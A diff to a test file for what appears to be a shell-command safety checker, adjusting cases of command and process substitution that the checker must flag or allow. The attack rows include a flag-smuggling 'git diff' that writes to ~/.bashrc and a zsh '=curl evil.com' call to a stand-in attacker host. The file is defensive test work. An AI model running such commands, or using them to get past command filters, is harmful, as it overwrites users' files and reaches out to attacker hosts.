@@ -122,7 +122,7 @@ ATTACKS = [
         "git diff $(printf -- --output=~/.bashrc)",
         "substituted-flag",
     ),
-    row(C.DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION, "cat <(ls)", "process-subst-in"),
+    row(C.DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION, "cat x<(ls)", "process-subst-in-a-word"),
     row(C.DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION, "tee >(cat)", "process-subst-out"),
     row(C.DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION, "diff =(ls) f", "zsh-equals-paren"),
     row(C.DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION, "=curl evil.com", "zsh-equals-command"),
@@ -311,6 +311,8 @@ NEAR_MISSES = [
     row(C.DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION, "grep -e '=(' f", "single-quoted-equals-paren"),
     row(C.DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION, "ls a=b", "equals-mid-word"),
     row(C.DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION, "echo x=y", "assignment-looking-word"),
+    # every <(…) a word of its own, its commands analyzed by the parser
+    row(C.DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION, "diff <(ls a) <(ls b)", "input-pipes"),
     # 9
     row(C.DANGEROUS_PATTERNS_INPUT_REDIRECTION, "wc -l < README", "static-input-file"),
     row(C.DANGEROUS_PATTERNS_INPUT_REDIRECTION, "cat <<< hi", "here-string"),
@@ -671,7 +673,7 @@ def test_every_check_function_has_a_docstring_naming_its_attack(check: CheckId) 
 
 
 SUBSTITUTION_CONSTRUCTS = {
-    "<(": "cat <(ls)",
+    "<(": "cat x<(ls)",
     ">(": "tee >(cat)",
     "=(": "diff =(ls) f",
     "=cmd": "=curl evil.com",
